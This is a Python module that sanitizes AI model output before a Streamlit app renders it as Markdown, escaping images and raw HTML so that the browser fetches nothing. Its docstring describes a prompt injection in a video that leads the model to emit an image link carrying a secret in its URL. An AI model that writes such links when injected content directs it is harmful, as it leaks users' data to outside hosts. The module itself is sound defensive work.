"""Model output is untrusted: shown as Markdown, it must never make the browser fetch anything.

A prompt injection in a video can ask the model to write `![x](https://host/?d=SECRET)`; rendered
as Markdown, the browser would fetch that URL at once. `safe_markdown` rewrites model text so that
Streamlit's `st.markdown` (react-markdown, GFM, math, directives; `unsafe_allow_html=False`)
renders no image and no HTML, while the text reads the same:

- every image opener `![` outside code gets its `!` escaped: `\\![x](u)` renders as "!" and a
  plain link, `\\![x][ref]` likewise; a link is fetched only if the user clicks it;
- every `<` that could open an HTML tag outside code is escaped, so `<img src=…>` shows as text;
- code blocks and code spans are left byte for byte (`vec![1, 2]` stays copyable).

Where code is comes from markdown-it-py with the extensions Streamlit's renderer has (tables,
footnotes, `$` math), and a scanner that follows CommonMark's rules for backslash escapes, code
spans and autolinks. The result is then parsed again; should it still hold an image or HTML (the
two views disagreed), the text is escaped without regard for code, and failing that, shown as a
code block. What reached this conclusion about Streamlit (read from its 1.67 frontend bundle):
raw HTML is already shown as text without `unsafe_allow_html`; `img` elements come only from
Markdown images; the `:streamlit:` logo is a data: URI; colours in `:color[]{…}` are validated;
KaTeX runs untrusted (no `\\includegraphics`); its fonts and the icon font are served by Streamlit.
"""

from __future__ import annotations

import html
import re
from functools import cache, lru_cache

from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.footnote import footnote_plugin

_SPECIAL = re.compile(r"[\\`$!<]")
_ASCII_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
# CommonMark autolinks, kept as they are: no escapes are processed inside them.
_AUTOLINK = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*"
    r"|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?)*)>"
)
_TAG_START = re.compile(r"<[A-Za-z/!?]")
_OPENER = re.compile(r"(\\*)(?:!\[|<[A-Za-z/!?])")
_CODE_BLOCKS = frozenset({"fence", "code_block"})
_MATH_BLOCKS = frozenset({"math_block", "math_block_label"})
_UNSAFE_TOKENS = frozenset({"image", "html_inline", "html_block"})


@lru_cache(maxsize=32)  # a page repaints the same answer many times
def safe_markdown(text: str) -> str:
    """`text` as Markdown that renders no image and no raw HTML; code is left unchanged."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    if "!" not in text and "<" not in text:
        return text  # nothing can open an image or a tag
    safe = _escape(text, respect_code=True)
    if not _has_opener(safe) or not _renders_unsafe(safe):
        return safe
    safe = _escape(text, respect_code=False)
    if not _renders_unsafe(safe):
        return safe
    fence = "~" * max(3, _longest_run(text, "~") + 1)
    return f"{fence}text\n{text}\n{fence}\n"


def renders_unsafe(markdown: str) -> bool:
    """Whether `markdown` would render an image or raw HTML (CommonMark + Streamlit's GFM)."""
    return _renders_unsafe(markdown.replace("\r\n", "\n").replace("\r", "\n"))


@cache
def _parser() -> MarkdownIt:
    return _configure(MarkdownIt("commonmark", {"html": True}))


def _configure(md: MarkdownIt) -> MarkdownIt:
    """The Markdown Streamlit renders: CommonMark, GFM tables, strikethrough and footnotes, math."""
    md.enable(["table", "strikethrough"])
    return md.use(footnote_plugin).use(dollarmath_plugin, double_inline=True)


@cache
def _block_parser() -> MarkdownIt:
    """The same grammar, blocks only: where code is, without the cost of inline parsing."""
    return _configure(MarkdownIt("commonmark", {"html": True})).disable("inline")


def _renders_unsafe(markdown: str) -> bool:
    return any(_unsafe(token) for token in _parser().parse(markdown))


def _has_opener(markdown: str) -> bool:
    """Whether any unescaped `![` or tag start is left (in code, math or autolinks): only then
    can the full parse that checks the result find something, so only then is it worth its cost."""
    return any(len(m.group(1)) % 2 == 0 for m in _OPENER.finditer(markdown))


def _unsafe(token: Token) -> bool:
    if token.type in _UNSAFE_TOKENS:
        return True
    return any(_unsafe(child) for child in token.children or ())


def _escape(text: str, *, respect_code: bool) -> str:
    lines = text.splitlines(keepends=True)
    roles, units = _structure(text, len(lines)) if respect_code else (["text"] * len(lines), {})
    out: list[str] = []
    index = 0
    while index < len(lines):
        role = roles[index]
        if role == "code":
            out.append(lines[index])
            index += 1
        elif role == "math":
            out.append(_escape_images(lines[index]))
            index += 1
        else:
            end = units.get(index, index + 1)
            if any(r != "text" for r in roles[index:end]):
                end = index + 1
            out.append(_escape_inline("".join(lines[index:end])))
            index = end
    return "".join(out)


def _structure(text: str, count: int) -> tuple[list[str], dict[int, int]]:
    """Each line's role, "code" (left alone), "math" (images escaped) or "text" (scanned); and
    the first line -> end line of each block whose inline content is one run of text, since a
    code span cannot reach from one paragraph into the next."""
    roles = ["text"] * count
    units: dict[int, int] = {}
    for token in _block_parser().parse(text):
        if not token.map:
            continue
        first, end = token.map[0], min(token.map[1], count)
        if token.type in _CODE_BLOCKS or token.type in _MATH_BLOCKS:
            role = "code" if token.type in _CODE_BLOCKS else "math"
            roles[first:end] = [role] * (end - first)
        elif token.type == "inline" and end > first + 1:
            units[first] = end
    return roles, units


def _escape_inline(text: str) -> str:
    """Escape image openers and tag starts, leaving escapes, code spans and autolinks be."""
    out: list[str] = []
    pos = 0
    length = len(text)
    while pos < length:
        match = _SPECIAL.search(text, pos)
        if match is None:
            out.append(text[pos:])
            break
        start = match.start()
        out.append(text[pos:start])
        char = text[start]
        if char == "\\":
            pos = start + (2 if text[start + 1 : start + 2] in _ASCII_PUNCTUATION else 1)
            out.append(text[start:pos])
        elif char in "`$":
            pos = _span(text, start, char, out)
        elif char == "!":
            out.append("\\!" if text.startswith("[", start + 1) else "!")
            pos = start + 1
        else:  # "<"
            autolink = _AUTOLINK.match(text, start)
            if autolink:
                out.append(autolink.group())
                pos = autolink.end()
            else:
                out.append("\\<" if _TAG_START.match(text, start) else "<")
                pos = start + 1
    return "".join(out)


def _span(text: str, start: int, char: str, out: list[str]) -> int:
    """A code span (backticks) or math span (dollars) opening at `start`; returns the end.

    As in CommonMark, it closes at the next run of exactly as many of the same character; with
    none, the run is literal text. Code is copied as it is; math has its images escaped, in case
    the renderer does not take it for math.
    """
    run_end = start
    while run_end < len(text) and text[run_end] == char:
        run_end += 1
    run = run_end - start
    search = run_end
    while (close := text.find(char * run, search)) != -1:
        close_end = close + run
        while close_end < len(text) and text[close_end] == char:
            close_end += 1
        if close_end - close == run:
            body = text[start:close_end]
            out.append(body if char == "`" else _escape_images(body))
            return close_end
        search = close_end
    out.append(text[start:run_end])
    return run_end


def _escape_images(text: str) -> str:
    """Escape every `![` whose `!` is not already escaped (odd run of backslashes before it)."""
    out: list[str] = []
    pos = 0
    for match in re.finditer(r"(\\*)!\[", text):
        out.append(text[pos : match.start()])
        backslashes = match.group(1)
        out.append(backslashes + ("!" if len(backslashes) % 2 else "\\!") + "[")
        pos = match.end()
    out.append(text[pos:])
    return "".join(out)


def _longest_run(text: str, char: str) -> int:
    runs = re.findall(f"{re.escape(char)}+", text)
    return max((len(r) for r in runs), default=0)


def safe_inline(text: str) -> str:
    """`text` for one line of Markdown (a caption, a label, a header): whitespace collapsed,
    so nothing the text holds can open a block (a heading, a list, a quote, a table)."""
    line = " ".join(str(text).split())
    if line[:1] in _BLOCK_OPENERS or _ORDERED_ITEM.match(line):
        line = "\\" + line if line[:1] in _BLOCK_OPENERS else _ORDERED_ITEM.sub(r"\1\\\2", line)
    return safe_markdown(line.replace("|", "\\|"))


def plot_text(text: str) -> str:
    """`text` for a Plotly label or hover: Plotly reads a subset of HTML (links, styles), so
    every markup character is escaped; line breaks become Plotly's own `<br>`."""
    lines = str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return "<br>".join(html.escape(line, quote=True) for line in lines)


_BLOCK_OPENERS = frozenset("#>-+*=")
_ORDERED_ITEM = re.compile(r"^(\d{1,9})([.)])")


def literal(text: str) -> str:
    """`text` as Markdown that shows exactly its characters, on one line: every ASCII
    punctuation character is backslash-escaped (CommonMark allows it for each), so nothing in
    it can open or close any syntax (emphasis, links, images, code, math, HTML, entities,
    Streamlit's `:color[…]` directives and `:icon:` codes). For untrusted words placed inside
    Markdown the app writes, such as a diff's `:red-background[…]`."""
    line = " ".join(str(text).split())
    return "".join("\\" + char if char in _ASCII_PUNCTUATION else char for char in line)
